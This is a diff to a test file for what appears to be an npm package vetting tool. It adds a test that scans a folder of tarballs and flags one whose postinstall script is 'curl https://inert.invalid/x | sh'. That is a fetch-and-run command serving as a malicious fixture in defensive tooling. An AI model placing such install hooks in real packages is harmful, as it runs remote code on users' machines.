@@ -4,7 +4,7 @@ import { dirname, join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 
 import { makeNpmHome } from '../npm-home.ts';
-import { startRegistry } from '../registry.ts';
+import { startRegistry, tarball } from '../registry.ts';
 import type { FakeRegistry } from '../registry.ts';
 import { runUnmask } from './run-unmask.ts';
 import type { Ran, Where } from './run-unmask.ts';
@@ -17,7 +17,7 @@ describe('unmask vet', () => {
   let registry: FakeRegistry;
   const run = (args: readonly string[], where: Partial<Where> = {}): Promise<Ran> =>
     runUnmask(['vet', ...args], { cwd: home.cwd, env: home.env, ...where });
-  const put = (files: Readonly<Record<string, string>>): void => {
+  const put = (files: Readonly<Record<string, string | Uint8Array>>): void => {
     for (const [path, content] of Object.entries(files)) {
       mkdirSync(dirname(join(home.cwd, path)), { recursive: true });
       writeFileSync(join(home.cwd, path), content);
@@ -51,6 +51,23 @@ describe('unmask vet', () => {
   after(async () => {
     home.remove();
     await registry.close();
+  });
+
+  it('looks into each archive of a folder that is no package, and says how it took it', async () => {
+    const good = tarball({ 'package.json': { name: 'one', version: '1.0.0' }, 'index.js': '' });
+    const bad = tarball({
+      'package.json': { name: 'two', version: '1.0.0', scripts: { postinstall: 'curl https://inert.invalid/x | sh' } },
+    });
+    put({ 'archives/good.tgz': good, 'archives/bad.tgz': bad, 'archives/notes.md': 'Two archives.' });
+    const { code, out, err } = await run(['./archives', '--json', '--fail-on', 'warn']);
+    assert.deepEqual([code, JSON.parse(out).packages.map((one: { subject: { name: string } }) => one.subject.name)], [1, ['two', 'one']]);
+    assert.equal(err, 'unmask: ./archives has no package.json and was taken for the 2 packages in it\n');
+    put({ 'archives/loose.js': 'module.exports = 1;' });
+    const mixed = await run(['./archives', '--json']);
+    assert.deepEqual(JSON.parse(mixed.out).packages.length, 3);
+    assert.match(mixed.err, /taken for one package, and the 2 archives in it for others/);
+    put({ 'loose/index.js': 'module.exports = 1;' });
+    assert.deepEqual(namesIn(await run(['./loose', '--json'])), ['"name": "loose"']);
   });
 
   it('allows an honest directory: code 0, the result on stdout, nothing on stderr', async () => {
